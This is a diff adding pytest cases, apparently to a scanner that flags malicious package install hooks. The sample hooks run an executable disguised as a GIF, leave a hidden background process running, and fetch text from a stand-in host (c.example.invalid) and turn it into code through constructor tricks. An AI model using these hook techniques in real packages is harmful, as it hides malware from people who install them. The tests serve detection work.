@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from tests.builders import Files
 from tests.evasions.packages import Seen, codes, commands, hooked, packages
 
 pytestmark = pytest.mark.semgrep
@@ -190,3 +191,79 @@ def test_a_command_of_a_build_whose_words_another_file_has_is_read(seen: Seen) -
 )
 def test_an_honest_neighbour_of_these_is_not_blocked(seen: Seen) -> None:
     assert not seen.blocked
+
+
+ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
+
+
+def copied(command: str, path: str, text: str) -> Files:
+    """Make a hook that has the text of one file, beside a program that is named as a picture."""
+    return hooked(command, {path: text, "assets/wheel.gif": ELF})
+
+
+@packages(
+    shell=copied("sh a.sh", "a.sh", 'at=$(mktemp -d)\ncat assets/wheel.gif > "$at/turn"\nchmod +x "$at/turn"\n"$at/turn"\n'),
+    moved=copied("sh a.sh", "a.sh", "cd /opt/x-inert-none && mv $OLDPWD/assets/wheel.gif turn && chmod a+x turn && ./turn\n"),
+    command=hooked("install -m 755 assets/wheel.gif /opt/x-inert-none/turn && /opt/x-inert-none/turn", {"assets/wheel.gif": ELF}),
+    script=copied(
+        "node a",
+        "a.js",
+        f"{SPAWN} const fs = require('fs'); const at = process.env.PLACE + '/turn';\n"
+        "fs.copyFileSync(`${__dirname}/assets/wheel.gif`, at);\nfs.chmodSync(at, 0o755);\nexecFileSync(at);\n",
+    ),
+    held=copied(
+        "node a",
+        "a.js",
+        f"{SPAWN} const fs = require('fs'), path = require('path'); const at = process.env.PLACE + '/turn';\n"
+        "const wheel = path.join(__dirname, 'assets', 'wheel.gif');\nfs.linkSync(wheel, at);\nspawnSync(at, []);\n",
+    ),
+    python=copied(
+        "python3 a.py",
+        "a.py",
+        "import os, shutil, subprocess\nat = os.environ['PLACE'] + '/turn'\n"
+        "shutil.copyfile('assets/wheel.gif', at)\nos.chmod(at, 0o755)\nsubprocess.run([at])\n",
+    ),
+)  # fmt: skip
+def test_a_copy_of_what_is_named_as_data_is_no_program(seen: Seen) -> None:
+    assert "runs-copied-data" in seen.errors
+
+
+@packages(
+    place=hooked("sh a.sh", {"a.sh": '"$PLACE/turn" <&- >/dev/null 2>&1 &\n'}),
+    beside=hooked("sh a.sh", {"a.sh": "cd lib\n./turn --quiet &>/dev/null &\n", "lib/turn": ELF}),
+    command=hooked("(${PLACE}/turn > /dev/null 2>/dev/null &)"),
+)
+def test_a_program_by_its_place_is_not_left_behind_in_silence(seen: Seen) -> None:
+    assert "leaves-process-behind" in seen.errors
+
+
+THROWS = "fetch('https://c.example.invalid/t').then(async (reply) => { throw Error(await reply.text()); });"
+
+
+@packages(
+    thrown=hooked(
+        "node a",
+        {
+            "a.js": f"require('./b'); {THROWS}",
+            "b.js": "const kind = { of: async () => {} }; process.on('unhandledRejection', ({ message }) => {"
+            " const Make = Object.getPrototypeOf(kind.of).constructor; new Make('load', message)(require); });",
+        },
+    ),
+    taken=hooked(
+        "node a",
+        {
+            "a.js": f"require('./b'); {THROWS}",
+            "b.js": "process.on('unhandledRejection', ({ message }) => {"
+            " const { constructor: Make } = Object.getPrototypeOf(function* () {}); Make(message)().next(); });",
+        },
+    ),
+    told=hooked(
+        "node a",
+        {
+            "a.js": "const { tell } = require('./b'); fetch('https://c.example.invalid/t').then((r) => r.text()).then(tell);",
+            "b.js": "class Table {} exports.tell = (rows) => { const Rows = Table.constructor; return Rows(rows)(); };",
+        },
+    ),
+)
+def test_what_is_fetched_here_and_made_code_there_blocks(seen: Seen) -> None:
+    assert "makes-code-of-answers" in seen.errors
